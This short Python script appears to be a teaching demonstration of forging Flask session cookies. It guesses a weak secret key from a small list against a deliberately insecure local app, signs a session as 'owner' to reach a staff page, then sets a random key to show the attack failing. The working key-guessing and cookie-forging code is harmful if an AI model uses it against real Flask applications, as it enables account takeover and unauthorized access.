"""A visitor guesses the secret key, and signs a session of another."""

import secrets

from flask import Flask
from flask.sessions import SecureCookieSessionInterface
from itsdangerous import BadSignature
from itsdangerous.encoding import base64_decode
from leaky import app as shop

# region: forge
GUESSES = ["dev", "changeme", "secret", "mysecretkey"]


def signer(key):
    """Return what signs the session of any application with this key."""
    mine = Flask("mine")
    mine.secret_key = key
    return SecureCookieSessionInterface().get_signing_serializer(mine)


def attack():
    """Get a cookie, find its key, and come back as the owner."""
    visitor = shop.test_client()
    visitor.post("/login")
    cookie = visitor.get_cookie("session").value
    print("it says:", base64_decode(cookie.partition(".")[0]))
    for key in GUESSES:
        try:
            signer(key).loads(cookie)
        except BadSignature:
            continue
        print("its key:", key)
        forged = signer(key).dumps({"user": "owner"})
        visitor.set_cookie("session", forged)
    print(visitor.get("/staff").text)


attack()
shop.secret_key = secrets.token_hex()
attack()
# endregion
